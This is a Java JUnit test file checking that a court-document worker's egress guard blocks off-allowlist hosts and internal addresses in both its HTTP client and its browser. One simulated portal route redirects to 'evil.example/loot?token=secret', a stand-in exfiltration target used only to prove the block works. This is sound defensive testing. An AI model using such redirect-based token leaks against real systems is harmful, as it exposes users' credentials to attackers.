package law.courtdocs.worker;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.Response;
import com.sun.net.httpserver.HttpExchange;
import java.io.IOException;
import java.net.InetAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.Queue;
import java.util.UUID;
import java.util.concurrent.ConcurrentLinkedQueue;
import law.courtdocs.browser.BrowserLauncher;
import law.courtdocs.egress.EgressGuard;
import law.courtdocs.egress.EgressRefusedException;
import law.courtdocs.egress.GuardedHttpClient;
import law.courtdocs.egress.OutboundHttp;
import law.courtdocs.portal.TestSession;
import law.courtdocs.sim.PortalSimulator;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** The worker's session wires the job's egress guard into both its HTTP client and its browser. */
class WorkerSessionEgressTest {

    static final String PORTAL = "portal.court.gov.cn";
    static final String EVIL = "evil.example";

    static PortalSimulator sim;
    static BrowserLauncher.Launched browser;
    static HttpClient shared;
    static final Queue<String> seen = new ConcurrentLinkedQueue<>();

    @BeforeAll
    static void start() throws Exception {
        sim = PortalSimulator.start(0);
        sim.route(PORTAL, WorkerSessionEgressTest::serve);
        sim.route(EVIL, WorkerSessionEgressTest::serve);
        browser = TestSession.launchBrowser(sim.proxyUrl());
        shared = OutboundHttp.client(Optional.of(sim.proxyUrl()), Duration.ofSeconds(5));
    }

    @AfterAll
    static void stop() {
        if (browser != null) {
            browser.close();
        }
        if (sim != null) {
            sim.close();
        }
    }

    static void serve(HttpExchange exchange) throws IOException {
        String path = exchange.getRequestURI().getPath();
        String host = exchange.getRequestURI().getHost() != null ? exchange.getRequestURI().getHost()
                : exchange.getRequestHeaders().getFirst("Host").replaceAll(":\\d+$", "");
        seen.add(host + " " + path);
        if (path.startsWith("/to-evil")) {
            exchange.getResponseHeaders().set("Location", "http://evil.example/loot?token=secret");
            PortalSimulator.send(exchange, 302, "text/plain", "");
        } else {
            PortalSimulator.send(exchange, 200, "text/html", "<html><body>hello</body></html>");
        }
    }

    static WorkerSession session(EgressGuard guard, Optional<String> proxy, String link) throws IOException {
        return new WorkerSession(UUID.randomUUID(), URI.create(link), browser::browser, shared, guard, proxy, null, Runnable::run,
                Duration.ofSeconds(15), Duration.ofSeconds(30), Instant.now().plusSeconds(120), () -> false,
                Long.MAX_VALUE, null);
    }

    static long evilHits() {
        return seen.stream().filter(s -> s.startsWith(EVIL + " ")).count();
    }

    @Test
    void httpClientAndBrowserAreBothGuardedAndBlockedRequestsCollected() throws Exception {
        EgressGuard guard = EgressGuard.of(List.of(PORTAL), true);
        try (WorkerSession session = session(guard, Optional.of(sim.proxyUrl()), "http://portal.court.gov.cn/start")) {
            assertTrue(session.checkLink().allowed());
            assertInstanceOf(GuardedHttpClient.class, session.http());
            HttpResponse<String> ok = session.http().send(
                    HttpRequest.newBuilder(URI.create("http://portal.court.gov.cn/start")).GET().build(),
                    HttpResponse.BodyHandlers.ofString());
            assertEquals(200, ok.statusCode());
            assertThrows(EgressRefusedException.class, () -> session.http().send(
                    HttpRequest.newBuilder(URI.create("http://portal.court.gov.cn/to-evil-http")).GET().build(),
                    HttpResponse.BodyHandlers.ofString()));

            Page page = session.browser().newPage();
            Response hop = page.navigate("http://portal.court.gov.cn/to-evil-browser");
            assertEquals(403, hop.status(), "the redirect hop is refused by the session's egress proxy");

            assertEquals(List.of("evil.example/loot"), session.blocked(), "recorded once, without the query");
            assertFalse(session.blocked().toString().contains("secret"));
            assertEquals(0, evilHits());
        }
    }

    @Test
    void blockedListIsDistinctAndBounded() throws Exception {
        try (WorkerSession session = session(EgressGuard.of(List.of(PORTAL), true), Optional.of(sim.proxyUrl()),
                "http://portal.court.gov.cn/")) {
            for (int i = 0; i < WorkerSession.MAX_BLOCKED + 50; i++) {
                for (int twice = 0; twice < 2; twice++) {
                    String url = "http://evil.example/" + i + "?n=" + twice;
                    assertThrows(EgressRefusedException.class, () -> session.http().send(
                            HttpRequest.newBuilder(URI.create(url)).GET().build(), HttpResponse.BodyHandlers.discarding()));
                }
            }
            List<String> blocked = session.blocked();
            assertEquals(WorkerSession.MAX_BLOCKED, blocked.size());
            assertEquals("evil.example/0", blocked.get(0));
            assertEquals("evil.example/1", blocked.get(1));
        }
    }

    @Test
    void withoutProxyALinkResolvingInsideIsRefusedBeforeAnythingStarts() throws Exception {
        EgressGuard guard = EgressGuard.of(List.of(PORTAL), false)
                .withResolver(host -> new InetAddress[] {InetAddress.getByName("10.0.0.7")});
        try (WorkerSession session = session(guard, Optional.empty(), "http://portal.court.gov.cn/v3/x?code=1")) {
            EgressGuard.Decision d = session.checkLink();
            assertFalse(d.allowed());
            assertTrue(d.reason().contains("internal address 10.0.0.7"), d.reason());
            assertEquals(List.of("portal.court.gov.cn/v3/x"), session.blocked());
            assertFalse(session.browserUsed());
        }
    }
}
